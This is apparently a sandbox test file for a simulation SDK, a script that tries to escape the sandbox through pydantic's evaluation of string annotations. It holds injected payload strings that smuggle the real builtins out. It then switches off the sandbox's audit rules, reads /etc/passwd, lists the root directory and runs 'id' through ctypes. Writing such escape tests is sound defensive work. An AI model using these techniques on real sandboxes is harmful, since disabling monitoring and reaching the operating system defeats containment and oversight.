# expect: runtime
# pydantic evaluates string annotations of a model subclass itself, with eval() and the *real* builtins (the class
# body runs in the program, but the evaluation does not). Subclass every pydantic model the SDK hands out (the
# scene spec class, the predicate classes, the class of a built spec), in several spellings, and use the builtins
# it yields to switch off the audit hook and reach the operating system.
import math

import sim

got = {}
payloads = [
    "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'",
    "list[__import__('sys').modules['math'].__dict__.setdefault('stash', __builtins__) and int]",
    "int if __import__('sys').modules['math'].__dict__.update(stash=__builtins__) else int",
]
bases = {
    'SceneSpec': lambda: sim.SceneSpec,
    'Atom': lambda: type(sim.on('a', 'b')),
    'And': lambda: type(sim.on('a', 'b') & sim.grasped('a')),
    'built spec': lambda: type(sim.Scene('pick_place').spec()),
    'Scene': lambda: sim.Scene,
    'Vec': lambda: sim.Vec,
    'Random': lambda: sim.Random,
    'ObjectHandle': lambda: type(sim.Scene('pick_place').add_object('mug')),
}
for name, base in bases.items():
    for payload in payloads:
        try:
            class Probe(base()):
                probe: payload = None

            got[name] = 'class made'
        except BaseException as exc:
            got[name] = repr(exc)[:60]
        try:
            real = math.stash
            break
        except AttributeError:
            real = None
    if real is not None:
        got['builtins'] = 'via ' + name
        break

if real is not None:
    sysm = real['__import__']('sys')
    child = sysm.modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    osm = real['__import__']('os')
    for label, step in (('uid', osm.getuid), ('cwd', osm.getcwd), ('listdir /', lambda: osm.listdir('/')),
                        ('read passwd', lambda: sysm.modules['_io'].FileIO('/etc/passwd').read()[:40]),
                        ('system', lambda: sysm.modules['ctypes'].CDLL(None).system(b'id'))):
        try:
            got[label] = repr(step())[:60]
        except BaseException as exc:
            got[label] = 'no: ' + repr(exc)[:50]
    for entry in real['getattr'](child, '_PREPARED').values():
        entry[1].clear()
raise RuntimeError('string annotation escape: ' + repr(got))
